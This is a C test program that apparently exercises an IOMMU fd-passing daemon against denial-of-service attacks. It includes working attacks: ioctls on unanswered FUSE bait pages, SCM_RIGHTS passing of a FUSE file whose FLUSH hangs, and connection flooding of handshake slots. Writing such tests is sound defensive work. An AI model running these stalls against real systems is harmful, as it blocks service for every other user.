// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Attacks on the fd-passing path that try to stall it for every user.
 *
 *   sec_fdpass_attack stall NODE BAIT
 *	(under uiommufd-exec) IOMMU_TEST_CMD with the struct in a page of
 *	BAIT, the attacker's FUSE file whose READ is never answered: whoever
 *	reads the op waits for ever.
 *   sec_fdpass_attack straddle NODE BAIT
 *	the same with the op readable and the rest of the struct in BAIT.
 *   sec_fdpass_attack foreign BAIT
 *	(under uiommufd-exec) CREATE_ACCESS on a descriptor of BAIT (the
 *	attacker's FUSE file whose FLUSH is never answered), not the node.
 *   sec_fdpass_attack sendfd SOCKET FILE
 *	hands the fd-passing socket a descriptor of FILE (the attacker's FUSE
 *	file whose FLUSH is never answered) instead of a seccomp listener:
 *	whoever closes it waits for ever.  No seccomp needed.
 *   sec_fdpass_attack conns SOCKET THREADS
 *	THREADS threads connect to the socket and say nothing, again and
 *	again: the handshake slots.
 *   sec_fdpass_attack burst NODE THREADS
 *	not an attack: a program of THREADS threads that each make
 *	IOAS_ALLOC + CREATE_ACCESS at the same moment (under uiommufd-exec);
 *	exits 0 when every one got its access fd.
 * Prints "started" once the attack is under way; runs until killed.
 */
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "sec_ops.h"

static const char *sock_path;

static int open_retry(const char *path, int flags)
{
	int fd = -1;

	/* The FUSE server may still be starting. */
	for (int i = 0; i < 100 && fd < 0; i++) {
		fd = open(path, flags | O_CLOEXEC);
		if (fd < 0)
			usleep(50000);
	}
	return fd;
}

static int connect_sock(void)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);

	if (s < 0)
		return -1;
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sock_path);
	if (connect(s, (struct sockaddr *)&sa, sizeof(sa))) {
		close(s);
		return -1;
	}
	return s;
}

static int attack_stall(const char *node_path, const char *bait_path)
{
	int fd = open_retry(bait_path, O_RDONLY), node = open(node_path, O_RDWR | O_CLOEXEC);
	void *bait;

	if (fd < 0 || node < 0) {
		perror("open");
		return 1;
	}
	bait = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	if (bait == MAP_FAILED) {
		perror("mmap");
		return 1;
	}
	printf("started\n");
	printf("returned %ld\n", (long)itest_ioctl(node, IOMMU_TEST_CMD, bait));
	return 0;
}

/*
 * The same with only the struct's first 8 bytes (size and op: a
 * CREATE_ACCESS) in an ordinary page and the rest in the bait page: the
 * op is readable, the struct is not.
 */
static int attack_straddle(const char *node_path, const char *bait_path)
{
	int fd = open_retry(bait_path, O_RDONLY), node = open(node_path, O_RDWR | O_CLOEXEC);
	uint32_t *head;
	char *area;

	if (fd < 0 || node < 0) {
		perror("open");
		return 1;
	}
	area = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (area == MAP_FAILED ||
	    mmap(area + 4096, 4096, PROT_READ, MAP_SHARED | MAP_FIXED, fd, 0) == MAP_FAILED) {
		perror("mmap");
		return 1;
	}
	head = (uint32_t *)(area + 4096 - 8);
	head[0] = sizeof(struct iommu_test_cmd);
	head[1] = IOMMU_TEST_OP_CREATE_ACCESS;
	printf("started\n");
	printf("returned %ld\n", (long)itest_ioctl(node, IOMMU_TEST_CMD, head));
	return 0;
}

/*
 * A CREATE_ACCESS made on BAIT itself instead of the node: whoever takes a
 * copy of that fd to look at it must close it again (FLUSH).
 */
static int attack_foreign(const char *bait_path)
{
	int fd = open_retry(bait_path, O_RDONLY);
	struct iommu_test_cmd cmd = {
		.size = sizeof(cmd),
		.op = IOMMU_TEST_OP_CREATE_ACCESS,
	};

	if (fd < 0) {
		perror("open");
		return 1;
	}
	printf("started\n");
	printf("returned %ld\n", (long)itest_ioctl(fd, IOMMU_TEST_CMD, &cmd));
	return 0;
}

static int attack_sendfd(const char *file)
{
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} c;
	char byte = 0;
	struct iovec iov = { &byte, 1 };
	struct msghdr m = {
		.msg_iov = &iov, .msg_iovlen = 1,
		.msg_control = c.buf, .msg_controllen = sizeof(c.buf),
	};
	struct cmsghdr *h;
	int fd = open_retry(file, O_RDONLY), s = connect_sock();

	if (fd < 0 || s < 0) {
		perror("setup");
		return 1;
	}
	memset(&c, 0, sizeof(c));
	h = CMSG_FIRSTHDR(&m);
	h->cmsg_level = SOL_SOCKET;
	h->cmsg_type = SCM_RIGHTS;
	h->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(h), &fd, sizeof(int));
	if (sendmsg(s, &m, 0) != 1) {
		perror("sendmsg");
		return 1;
	}
	printf("started\n");
	/* Again and again: every handshake of this uid gets the bad file. */
	for (;;) {
		struct pollfd p = { .fd = s, .events = POLLIN };

		poll(&p, 1, 5000);
		close(s);
		s = connect_sock();
		if (s >= 0)
			sendmsg(s, &m, 0);
		else
			usleep(10000);
	}
}

static int burst_fd;
static pthread_barrier_t burst_go;

static void *burst_one(void *arg)
{
	uint32_t ioas;
	int afd = -1;
	long rc = itest_ioas_alloc(burst_fd, &ioas);

	pthread_barrier_wait(&burst_go);
	if (!rc)
		rc = sec_create_access(burst_fd, ioas, &afd);
	*(long *)arg = rc;
	return NULL;
}

static int burst(const char *node_path, int n)
{
	pthread_t t[64];
	long rc[64];
	int bad = 0;

	burst_fd = open(node_path, O_RDWR | O_CLOEXEC);
	if (burst_fd < 0 || n < 1 || n > 64)
		return 2;
	pthread_barrier_init(&burst_go, NULL, (unsigned int)n);
	for (int i = 0; i < n; i++)
		pthread_create(&t[i], NULL, burst_one, &rc[i]);
	for (int i = 0; i < n; i++) {
		pthread_join(t[i], NULL);
		if (rc[i]) {
			printf("thread %d: %s\n", i, sec_err(rc[i]));
			bad++;
		}
	}
	printf("%d/%d CREATE_ACCESS at once\n", n - bad, n);
	return bad != 0;
}

static void *spam(void *arg)
{
	(void)arg;
	for (;;) {
		int s = connect_sock();
		struct pollfd p = { .fd = s, .events = POLLIN };

		if (s < 0)
			continue;
		poll(&p, 1, 5000);	/* until the daemon drops us */
		close(s);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && !strcmp(argv[1], "stall"))
		return attack_stall(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "foreign"))
		return attack_foreign(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "burst"))
		return burst(argv[2], atoi(argv[3]));
	if (argc == 4 && !strcmp(argv[1], "straddle"))
		return attack_straddle(argv[2], argv[3]);
	if (argc == 4 && !strcmp(argv[1], "sendfd")) {
		sock_path = argv[2];
		return attack_sendfd(argv[3]);
	}
	if (argc == 4 && !strcmp(argv[1], "conns")) {
		pthread_t t;

		sock_path = argv[2];
		for (int i = 0; i < atoi(argv[3]); i++)
			pthread_create(&t, NULL, spam, NULL);
		printf("started\n");
		pause();
		return 0;
	}
	fprintf(stderr, "usage: %s stall NODE BAIT | sendfd SOCKET FILE | conns SOCKET THREADS\n",
		argv[0]);
	return 2;
}
